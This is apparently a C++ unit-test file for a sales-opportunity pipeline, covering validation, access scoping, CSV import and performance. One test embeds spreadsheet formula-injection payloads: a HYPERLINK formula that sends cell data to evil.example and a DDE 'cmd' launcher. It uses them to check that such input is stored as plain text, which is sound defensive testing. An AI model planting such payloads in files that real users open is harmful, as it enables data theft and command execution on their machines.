#include "deals/direct_pipeline.h"

#include <gtest/gtest.h>
#include <soci/soci.h>

#include <chrono>
#include <iostream>
#include <set>

#include "audit/audit.h"
#include "db/migrations.h"
#include "db/query.h"
#include "db/rows.h"
#include "db/testing/test_database.h"
#include "matching/company_index.h"
#include "matching/matching.h"

namespace strata::deals {
namespace {

TEST(NormaliseDirectOpportunityTest, TrimsUpperCasesAndNamesEveryBadField) {
  DirectOpportunityFields fields{.company = "  Acme GmbH \n",
                                 .website = " acme.example ",
                                 .country = "de",
                                 .region = " EMEA ",
                                 .amount = DirectAmount{1250, "eur"},
                                 .expected_close = "2024-02-29",
                                 .owner = " Kim ",
                                 .external_id = " crm-1 ",
                                 .notes = "  as typed  "};
  EXPECT_TRUE(NormaliseDirectOpportunity(fields).empty());
  EXPECT_EQ(fields.company, "Acme GmbH");
  EXPECT_EQ(fields.website, "acme.example");
  EXPECT_EQ(fields.country, "DE");
  EXPECT_EQ(fields.region, "EMEA");
  EXPECT_EQ(fields.amount->currency, "EUR");
  EXPECT_EQ(fields.owner, "Kim");
  EXPECT_EQ(fields.external_id, "crm-1");
  EXPECT_EQ(fields.notes, "  as typed  ");

  DirectOpportunityFields bad{.company = "   ",
                              .website = "acme .example",
                              .country = "DEU",
                              .region = std::string(101, 'r'),
                              .amount = DirectAmount{-1, "XYZ"},
                              .expected_close = "2025-02-29",
                              .owner = std::string(201, 'o'),
                              .external_id = "  ",
                              .notes = std::string(5001, 'n')};
  std::set<std::string> named;
  for (const auto& problem : NormaliseDirectOpportunity(bad)) named.insert(problem.field);
  EXPECT_EQ(named, (std::set<std::string>{"company", "website", "country", "region", "amount.minor",
                                          "amount.currency", "expected_close", "owner",
                                          "external_id", "notes"}));
}

TEST(NormaliseDirectOpportunityTest, CountsCharactersNotBytes) {
  std::string name;
  for (int i = 0; i < 200; ++i) name += "\xC3\xA9";  // é, two bytes each.
  DirectOpportunityFields fields{.company = name};
  EXPECT_TRUE(NormaliseDirectOpportunity(fields).empty());
  fields.company += "e";
  EXPECT_EQ(NormaliseDirectOpportunity(fields).at(0).field, "company");
  DirectOpportunityFields control{.company = "Acme\x01"};
  EXPECT_EQ(NormaliseDirectOpportunity(control).at(0).message,
            "must not contain control characters");
  for (const char* date : {"2024-13-01", "2024-00-10", "24-01-01", "2024-1-01", "2024-01-32",
                           "2024-01-0a", "2024/01/01"}) {
    DirectOpportunityFields dated{.company = "Acme", .expected_close = date};
    EXPECT_EQ(NormaliseDirectOpportunity(dated).size(), 1U) << date;
  }
}

// Runs on SQLite, or on PostgreSQL under scripts/with-postgres.sh.
class DirectPipelineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    test_ = db::testing::TestDatabase::Create(2);
    ASSERT_TRUE(db::Migrate(test_->database(), db::BuiltinMigrations()));
    pipeline_ = std::make_unique<DirectPipeline>(test_->database());
    for (const auto& [id, kinds] :
         std::vector<std::pair<std::string, std::string>>{{"vendor", "vendor"},
                                                          {"vendor-2", "distributor,vendor"},
                                                          {"partner", "reseller"},
                                                          {"distributor", "distributor"}}) {
      Execute(
          "INSERT INTO orgs (id, name, kinds, created_at, updated_at)"
          " VALUES (:id, :name, :kinds, 0, 0)",
          db::Parameters().Text("id", id).Text("name", id).Text("kinds", kinds));
    }
  }

  long long Execute(const std::string& sql, const db::Parameters& parameters) {
    auto lease = test_->database().Acquire();
    EXPECT_TRUE(lease);
    return db::Execute(**lease, sql, parameters);
  }

  std::int64_t Count(const std::string& sql, const db::Parameters& parameters = {}) {
    auto lease = test_->database().Acquire();
    std::int64_t count = -1;
    db::ForEachRow(**lease, sql, parameters,
                   [&](const soci::row& row) { count = db::RowInteger(row, 0); });
    return count;
  }

  // The index's direct opportunities of `org` that match `company`.
  std::vector<std::string> Indexed(const std::string& org, const std::string& company) {
    auto lease = test_->database().Acquire();
    std::vector<std::string> ids;
    for (const auto& candidate : matching::CompanyIndex::Find(
             **lease, org, matching::Describe(company), matching::kPossibleConflict)) {
      if (candidate.record_type == "direct_opportunity") ids.push_back(candidate.record_id);
    }
    return ids;
  }

  static access::Actor Member(const std::string& org, access::Role role = access::Role::kMember,
                              access::Scopes scopes = {}) {
    return access::Actor::User("user-" + org, org, role, std::move(scopes));
  }

  DirectOpportunity Create(const std::string& company, const std::string& region = "",
                           std::optional<std::string> external_id = std::nullopt,
                           const access::Actor& actor = Member("vendor")) {
    auto created = pipeline_->Create(
        actor, {.company = company, .region = region, .external_id = std::move(external_id)});
    EXPECT_TRUE(created) << created.error().message;
    return created ? *created : DirectOpportunity{};
  }

  // The companies the actor lists, over every page.
  std::vector<std::string> Companies(const access::Actor& actor, DirectQuery query = {}) {
    std::vector<std::string> companies;
    query.limit = 2;
    do {
      auto page = pipeline_->List(actor, query);
      EXPECT_TRUE(page) << page.error().message;
      if (!page) break;
      for (const auto& item : page->items) companies.push_back(item.fields.company);
      query.cursor = page->next_cursor;
    } while (query.cursor);
    return companies;
  }

  std::vector<std::string> Actions(const std::string& org) {
    auto page = audit::AuditLog(test_->database())
                    .List(Member(org, access::Role::kOwner), 200, std::nullopt);
    std::vector<std::string> actions;
    for (const auto& event : page->items) actions.push_back(event.action);
    return actions;
  }

  std::unique_ptr<db::testing::TestDatabase> test_;
  std::unique_ptr<DirectPipeline> pipeline_;
};

TEST_F(DirectPipelineTest, CreatesReadsChangesAndDeletes) {
  const auto vendor = Member("vendor");
  auto created = pipeline_->Create(vendor, {.company = " Globex Corp ",
                                            .website = "https://globex.example",
                                            .country = "us",
                                            .region = "AMER",
                                            .amount = DirectAmount{1250050, "USD"},
                                            .expected_close = "2026-12-31",
                                            .owner = "Kim",
                                            .external_id = "SF-1",
                                            .notes = "=1+1"});
  ASSERT_TRUE(created) << created.error().message;
  EXPECT_EQ(created->fields.company, "Globex Corp");
  EXPECT_EQ(created->fields.country, "US");
  EXPECT_EQ(created->fields.status, DirectStatus::kOpen);
  auto read = pipeline_->Get(vendor, created->id);
  ASSERT_TRUE(read);
  EXPECT_EQ(read->fields.amount->minor, 1250050);
  EXPECT_EQ(read->fields.amount->currency, "USD");
  EXPECT_EQ(read->fields.expected_close, "2026-12-31");
  EXPECT_EQ(read->fields.external_id, "SF-1");
  EXPECT_EQ(read->fields.notes, "=1+1");

  // Only the fields given change; null clears.
  DirectOpportunityChanges changes;
  changes.owner = "Lee";
  changes.amount = std::optional<DirectAmount>();
  changes.external_id = std::optional<std::string>();
  auto changed = pipeline_->Update(vendor, created->id, changes);
  ASSERT_TRUE(changed) << changed.error().message;
  EXPECT_EQ(changed->fields.owner, "Lee");
  EXPECT_EQ(changed->fields.company, "Globex Corp");
  EXPECT_FALSE(changed->fields.amount);
  EXPECT_FALSE(changed->fields.external_id);
  EXPECT_GE(changed->updated_at, changed->created_at);
  EXPECT_EQ(pipeline_->Get(vendor, created->id)->fields.owner, "Lee");

  ASSERT_TRUE(pipeline_->Delete(vendor, created->id));
  EXPECT_EQ(pipeline_->Get(vendor, created->id).error().code, core::Errc::kNotFound);
  EXPECT_EQ(pipeline_->Delete(vendor, created->id).error().code, core::Errc::kNotFound);
  EXPECT_EQ(Actions("vendor"),
            (std::vector<std::string>{"direct_opportunity.deleted", "direct_opportunity.updated",
                                      "direct_opportunity.created"}));
}

TEST_F(DirectPipelineTest, ListsNewestFirstByStatusAndByPartOfTheName) {
  const auto vendor = Member("vendor");
  Create("Initech");
  const auto won = Create("100% Pure Ltd");
  Create("1000 Pure Ltd");
  Create("a_b Systems");
  Create("axb Systems");
  DirectOpportunityChanges close;
  close.status = DirectStatus::kWon;
  ASSERT_TRUE(pipeline_->Update(vendor, won.id, close));
  EXPECT_EQ(Companies(vendor),
            (std::vector<std::string>{"axb Systems", "a_b Systems", "1000 Pure Ltd",
                                      "100% Pure Ltd", "Initech"}));
  EXPECT_EQ(Companies(vendor, {.status = DirectStatus::kWon}),
            std::vector<std::string>{"100% Pure Ltd"});
  EXPECT_EQ(Companies(vendor, {.status = DirectStatus::kOpen}).size(), 4U);
  // Wildcards in the text are literal; case does not matter.
  EXPECT_EQ(Companies(vendor, {.text = "0% PURE"}), std::vector<std::string>{"100% Pure Ltd"});
  EXPECT_EQ(Companies(vendor, {.text = "a_b"}), std::vector<std::string>{"a_b Systems"});
  EXPECT_EQ(Companies(vendor, {.text = "INITECH"}), std::vector<std::string>{"Initech"});
  EXPECT_TRUE(Companies(vendor, {.text = "%"}).size() == 1);
  EXPECT_TRUE(Companies(vendor, {.text = "\\"}).empty());
}

TEST_F(DirectPipelineTest, OnlyAVendorsMembersUseItAndViewersOnlyRead) {
  const auto opportunity = Create("Umbrella");
  for (const char* org : {"partner", "distributor"}) {
    const auto outsider = Member(org, access::Role::kOwner);
    EXPECT_EQ(pipeline_->List(outsider, {}).error().code, core::Errc::kForbidden);
    EXPECT_EQ(pipeline_->Create(outsider, {.company = "X"}).error().code, core::Errc::kForbidden);
    EXPECT_EQ(pipeline_->Import(outsider, "company\nX\n").error().code, core::Errc::kForbidden);
    // By id, a partner learns nothing: not even that the pipeline exists.
    EXPECT_EQ(pipeline_->Get(outsider, opportunity.id).error().code, core::Errc::kNotFound);
    EXPECT_EQ(pipeline_->Delete(outsider, opportunity.id).error().code, core::Errc::kForbidden);
  }
  const auto other_vendor = Member("vendor-2", access::Role::kOwner);
  EXPECT_EQ(pipeline_->Get(other_vendor, opportunity.id).error().code, core::Errc::kNotFound);
  EXPECT_EQ(pipeline_->Delete(other_vendor, opportunity.id).error().code, core::Errc::kNotFound);
  EXPECT_EQ(pipeline_->Update(other_vendor, opportunity.id, {}).error().code,
            core::Errc::kNotFound);
  EXPECT_TRUE(Companies(other_vendor).empty());

  const auto viewer = Member("vendor", access::Role::kViewer);
  EXPECT_EQ(Companies(viewer), std::vector<std::string>{"Umbrella"});
  EXPECT_TRUE(pipeline_->Get(viewer, opportunity.id));
  EXPECT_EQ(pipeline_->Create(viewer, {.company = "X"}).error().code, core::Errc::kForbidden);
  EXPECT_EQ(pipeline_->Update(viewer, opportunity.id, {}).error().code, core::Errc::kForbidden);
  EXPECT_EQ(pipeline_->Delete(viewer, opportunity.id).error().code, core::Errc::kForbidden);
  EXPECT_EQ(pipeline_->Import(viewer, "company\nX\n").error().code, core::Errc::kForbidden);
  EXPECT_EQ(pipeline_->List(access::Actor::System(), {}).error().code, core::Errc::kForbidden);
}

TEST_F(DirectPipelineTest, AScopedMemberWorksInsideItsScopesOnly) {
  Create("Emea Co", "EMEA");
  const auto apac = Create("Apac Co", "APAC");
  Create("Nowhere Co");
  const auto emea = Member("vendor", access::Role::kMember, {.regions = {"EMEA"}});
  EXPECT_EQ(Companies(emea), std::vector<std::string>{"Emea Co"});
  EXPECT_EQ(pipeline_->Get(emea, apac.id).error().code, core::Errc::kNotFound);
  EXPECT_EQ(pipeline_->Delete(emea, apac.id).error().code, core::Errc::kNotFound);
  auto outside = pipeline_->Create(emea, {.company = "New", .region = "APAC"});
  ASSERT_FALSE(outside);
  EXPECT_EQ(outside.error().fields.at(0).field, "region");
  EXPECT_TRUE(pipeline_->Create(emea, {.company = "New", .region = "EMEA"}));

  // Scoped to another vendor, a member of a vendor sees none of its own pipeline.
  const auto elsewhere = Member("vendor", access::Role::kMember, {.vendors = {"vendor-2"}});
  EXPECT_TRUE(Companies(elsewhere).empty());
  EXPECT_EQ(pipeline_->Create(elsewhere, {.company = "X"}).error().code, core::Errc::kForbidden);
  const auto own = Member("vendor", access::Role::kMember, {.vendors = {"vendor"}});
  EXPECT_EQ(Companies(own).size(), 4U);
}

TEST_F(DirectPipelineTest, ExternalIdsAreUniquePerVendor) {
  const auto vendor = Member("vendor");
  const auto first = Create("A", "", "CRM-1");
  const auto second = Create("B", "", "CRM-2");
  EXPECT_EQ(pipeline_->Create(vendor, {.company = "C", .external_id = "CRM-1"}).error().code,
            core::Errc::kConflict);
  DirectOpportunityChanges clash;
  clash.external_id = std::optional<std::string>("CRM-1");
  EXPECT_EQ(pipeline_->Update(vendor, second.id, clash).error().code, core::Errc::kConflict);
  EXPECT_TRUE(pipeline_->Update(vendor, first.id, clash));
  Create("A elsewhere", "", "CRM-1", Member("vendor-2"));
}

TEST_F(DirectPipelineTest, OnlyOpenOpportunitiesAreIndexedAndDeletingForgetsConflicts) {
  const auto vendor = Member("vendor");
  const auto opportunity = Create("Stark Industries");
  EXPECT_EQ(Indexed("vendor", "Stark Industries Inc"), std::vector<std::string>{opportunity.id});
  DirectOpportunityChanges change;
  change.status = DirectStatus::kLost;
  ASSERT_TRUE(pipeline_->Update(vendor, opportunity.id, change));
  EXPECT_TRUE(Indexed("vendor", "Stark Industries").empty());
  change.status = DirectStatus::kOpen;
  change.company = "Wayne Enterprises";
  ASSERT_TRUE(pipeline_->Update(vendor, opportunity.id, change));
  EXPECT_TRUE(Indexed("vendor", "Stark Industries").empty());
  EXPECT_EQ(Indexed("vendor", "Wayne Enterprises"), std::vector<std::string>{opportunity.id});

  // A registration found in conflict with it.
  Execute(
      "INSERT INTO deals (id, org_id, created_by, vendor_org_id, status, customer_company,"
      " customer_website, customer_country, customer_region, customer_address, contact_name,"
      " contact_email, contact_phone, amount_minor, currency, expected_close, lines,"
      " shared_notes, private_notes, created_at, updated_at) VALUES ('deal-1', 'partner', 'u',"
      " 'vendor', 'submitted', 'Wayne', '', '', '', '', '', '', '', 100, 'EUR', '', '[]', '',"
      " '', 0, 0)",
      {});
  Execute(
      "INSERT INTO deal_conflicts (deal_id, vendor_org_id, other_type, other_id, score_milli,"
      " reasons, created_at) VALUES ('deal-1', 'vendor', 'direct_opportunity', :id, 900, '', 0)",
      db::Parameters().Text("id", opportunity.id));
  ASSERT_TRUE(pipeline_->Delete(vendor, opportunity.id));
  EXPECT_TRUE(Indexed("vendor", "Wayne Enterprises").empty());
  EXPECT_EQ(Count("SELECT COUNT(*) FROM deal_conflicts"), 0);
  EXPECT_EQ(Count("SELECT COUNT(*) FROM deals"), 1);
}

TEST_F(DirectPipelineTest, ImportsCreatingAndUpdatingByExternalId) {
  const auto vendor = Member("vendor");
  const auto stored = Create("Old Name", "EMEA", "SF-2");
  DirectOpportunityChanges notes;
  notes.notes = "kept";
  ASSERT_TRUE(pipeline_->Update(vendor, stored.id, notes));
  const std::string csv =
      "\xEF\xBB\xBF Company ,AMOUNT,Currency,external_id,Status,expected_close\r\n"
      "Acme,12500.50,eur,SF-1,,2026-03-31\r\n"
      ",,,,,\r\n"
      "New Name,,,SF-2,won,\r\n"
      "\"Hooli, Inc.\",100,JPY,,lost,\r\n";
  auto outcome = pipeline_->Import(vendor, csv);
  ASSERT_TRUE(outcome) << outcome.error().message;
  ASSERT_TRUE(outcome->rejected.empty()) << outcome->rejected.front().message;
  EXPECT_EQ(outcome->created, 2U);
  EXPECT_EQ(outcome->updated, 1U);

  auto updated = pipeline_->Get(vendor, stored.id);
  ASSERT_TRUE(updated);
  EXPECT_EQ(updated->fields.company, "New Name");
  EXPECT_EQ(updated->fields.status, DirectStatus::kWon);
  // Columns the file does not have keep their values.
  EXPECT_EQ(updated->fields.notes, "kept");
  EXPECT_EQ(updated->fields.region, "EMEA");
  EXPECT_EQ(updated->created_at, stored.created_at);

  auto page = pipeline_->List(vendor, {.text = "acme"});
  ASSERT_EQ(page->items.size(), 1U);
  const auto& acme = page->items[0].fields;
  EXPECT_EQ(acme.amount->minor, 1250050);
  EXPECT_EQ(acme.amount->currency, "EUR");
  EXPECT_EQ(acme.status, DirectStatus::kOpen);
  EXPECT_EQ(acme.expected_close, "2026-03-31");
  EXPECT_EQ(pipeline_->List(vendor, {.text = "Hooli, Inc."})->items.at(0).fields.amount->minor,
            100);
  EXPECT_EQ(Indexed("vendor", "Acme"), std::vector<std::string>{page->items[0].id});
  EXPECT_TRUE(Indexed("vendor", "New Name").empty());
  EXPECT_EQ(Actions("vendor").front(), "direct_opportunity.imported");
}

TEST_F(DirectPipelineTest, AnImportWithBadRowsListsEveryProblemAndStoresNothing) {
  const auto vendor = Member("vendor");
  Create("Stored", "", "SF-9");
  const auto before = Count("SELECT COUNT(*) FROM direct_opportunities");
  const std::string csv =
      "company,country,amount,currency,external_id,status,expected_close\n"
      "Good One,DE,10,EUR,A-1,open,\n"
      ",DE,10,EUR,,,\n"                             // Line 3: no company.
      "Bad Country,DEU,10.999,EUR,,,\n"             // Line 4: country and amount.
      "Dup,FR,,,A-1,,\n"                            // Line 5: A-1 again.
      "\"Two\nLines\",FR,5,XYZ,,sold,2026-02-30\n"  // Line 6: currency, status and date.
      "Short,FR\n"                                  // Line 8: too few cells.
      "Negative,FR,-5,EUR,SF-10,,\n";               // Line 9.
  auto outcome = pipeline_->Import(vendor, csv);
  ASSERT_TRUE(outcome) << outcome.error().message;
  std::vector<std::tuple<std::size_t, std::string>> got;
  for (const auto& problem : outcome->rejected) got.emplace_back(problem.line, problem.field);
  EXPECT_EQ(got, (std::vector<std::tuple<std::size_t, std::string>>{{3, "company"},
                                                                    {4, "amount"},
                                                                    {4, "country"},
                                                                    {5, "external_id"},
                                                                    {6, "status"},
                                                                    {6, "currency"},
                                                                    {6, "expected_close"},
                                                                    {8, ""},
                                                                    {9, "amount"}}));
  EXPECT_EQ(outcome->created + outcome->updated, 0U);
  EXPECT_EQ(Count("SELECT COUNT(*) FROM direct_opportunities"), before);
  EXPECT_EQ(Actions("vendor").front(), "direct_opportunity.created");
}

TEST_F(DirectPipelineTest, AnImportRefusesABadFileAsAWhole) {
  const auto vendor = Member("vendor");
  const auto problems = [&](const std::string& csv) {
    auto outcome = pipeline_->Import(vendor, csv);
    EXPECT_TRUE(outcome) << outcome.error().message;
    std::vector<std::tuple<std::size_t, std::string>> got;
    for (const auto& problem : outcome->rejected) got.emplace_back(problem.line, problem.field);
    return got;
  };
  using Lines = std::vector<std::tuple<std::size_t, std::string>>;
  EXPECT_EQ(problems(""), (Lines{{1, ""}}));
  EXPECT_EQ(problems("\n\nwebsite,Colour,company,website\n"),
            (Lines{{3, "Colour"}, {3, "website"}}));
  EXPECT_EQ(problems("website\nx\n"), (Lines{{1, "company"}}));
  EXPECT_EQ(problems("company,amount\nx,1\n"), (Lines{{1, "currency"}}));
  EXPECT_EQ(problems("company,\nx,\n"), (Lines{{1, ""}}));
  EXPECT_EQ(problems("company\nok\n\"never closed\n"), (Lines{{3, ""}}));
  EXPECT_EQ(problems("company\nok\nbad \"quote\"\n"), (Lines{{3, ""}}));
  EXPECT_EQ(problems("company\n\xff\n"), (Lines{{2, ""}}));
  // A header alone imports nothing, successfully.
  EXPECT_TRUE(problems("company\n").empty());

  std::string many = "company\n";
  for (std::size_t i = 0; i <= DirectPipeline::kMaxImportRows; ++i) many += "c\n";
  EXPECT_EQ(problems(many), (Lines{{DirectPipeline::kMaxImportRows + 2, ""}}));
  EXPECT_EQ(Count("SELECT COUNT(*) FROM direct_opportunities"), 0);
}

TEST_F(DirectPipelineTest, AScopedMemberImportsOnlyInsideItsRegions) {
  Create("Apac Co", "APAC", "AP-1");
  const auto emea = Member("vendor", access::Role::kMember, {.regions = {"EMEA"}});
  auto outcome =
      pipeline_->Import(emea, "company,region,external_id\nOk,EMEA,\nNo,APAC,\nHidden,EMEA,AP-1\n");
  ASSERT_TRUE(outcome);
  ASSERT_EQ(outcome->rejected.size(), 2U);
  EXPECT_EQ(outcome->rejected[0].line, 3U);
  EXPECT_EQ(outcome->rejected[0].field, "region");
  EXPECT_EQ(outcome->rejected[1].line, 4U);
  EXPECT_EQ(outcome->rejected[1].field, "external_id");
}

TEST_F(DirectPipelineTest, FormulaTextIsStoredAsText) {
  const auto vendor = Member("vendor");
  const std::vector<std::string> payloads = {"=1+1",
                                             "+1+1",
                                             "-1+1",
                                             "@SUM(1+1)",
                                             R"(=HYPERLINK("http://evil.example?x="&A1,"Error"))",
                                             "=cmd|' /C calc'!A0"};
  std::string csv = "company,notes,owner\n";
  for (const auto& payload : payloads) {
    std::string quoted = "\"";
    for (char c : payload) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
    quoted += "\"";
    csv.append(quoted).append(",").append(quoted).append(",").append(quoted).append("\n");
  }
  auto outcome = pipeline_->Import(vendor, csv);
  ASSERT_TRUE(outcome);
  ASSERT_TRUE(outcome->rejected.empty()) << outcome->rejected.front().message;
  std::set<std::string> companies;
  const auto page = pipeline_->List(vendor, {});
  ASSERT_TRUE(page);
  for (const auto& item : page->items) {
    companies.insert(item.fields.company);
    EXPECT_EQ(item.fields.notes, item.fields.company);
    EXPECT_EQ(item.fields.owner, item.fields.company);
  }
  EXPECT_EQ(companies, std::set<std::string>(payloads.begin(), payloads.end()));
}

// Measured, not asserted tightly: ten thousand rows in one transaction, then the same file
// again (every row an update).
TEST_F(DirectPipelineTest, ImportsTenThousandRowsInOneGo) {
  const auto vendor = Member("vendor");
  std::string csv = "company,website,country,region,amount,currency,external_id,status,owner\n";
  for (int i = 0; i < 10'000; ++i) {
    const std::string n = std::to_string(i);
    csv.append("\"Company ").append(n).append(" Holdings, Inc.\",https://www.company").append(n);
    csv.append(".example,US,AMER,12500.50,USD,CRM-").append(n).append(",");
    csv.append(i % 10 == 0 ? "won" : "open").append(",Rep ").append(std::to_string(i % 17));
    csv.append("\n");
  }
  for (const char* pass : {"created", "updated"}) {
    const auto start = std::chrono::steady_clock::now();
    auto outcome = pipeline_->Import(vendor, csv);
    const auto millis = std::chrono::duration_cast<std::chrono::milliseconds>(
                            std::chrono::steady_clock::now() - start)
                            .count();
    ASSERT_TRUE(outcome);
    ASSERT_TRUE(outcome->rejected.empty()) << outcome->rejected.front().message;
    EXPECT_EQ(std::string(pass) == "created" ? outcome->created : outcome->updated, 10'000U);
    std::cout << "import of 10,000 rows (" << pass << ") on "
              << db::DialectName(test_->database().dialect()) << ": " << millis << " ms\n";
    EXPECT_LT(millis, 60'000);
  }
  EXPECT_EQ(Count("SELECT COUNT(*) FROM direct_opportunities"), 10'000);
  EXPECT_EQ(Count("SELECT COUNT(*) FROM company_index WHERE record_type = 'direct_opportunity'"),
            9'000);
}

}  // namespace
}  // namespace strata::deals
